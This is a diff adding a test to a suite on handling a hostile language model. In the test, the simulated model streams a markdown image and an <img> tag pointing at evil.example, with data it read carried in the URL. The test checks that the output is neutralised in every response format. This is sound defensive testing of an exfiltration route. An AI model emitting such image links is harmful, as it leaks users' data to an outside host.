@@ -127,6 +127,22 @@ describe('a hostile model that', () => {
     });
   }
 
+  test('writes an image whose address carries what it read: the image leads nowhere, in every form of answer', async () => {
+    fake.respond({
+      deltas: [
+        'Staff get 25 days of leave per year [1]. ![x](htt',
+        'ps://evil.example/?d=25) <img src="//evil.example">',
+      ],
+    });
+    const expected =
+      'Staff get 25 days of leave per year. ![x] (hxxps://evil.example/?d=25) &lt;img src="//evil.example">';
+    const json = await asJson();
+    assert.equal(json.text, expected);
+    assert.equal(json.citations[0]?.citation.verified, true);
+    assert.equal((await asEvents()).text, expected);
+    assert.equal(await asText(), expected);
+  });
+
   for (const [what, script] of Object.entries(BABBLING)) {
     test(`${what}: the answer is truncated, and the call ends`, async () => {
       fake.respond(script);
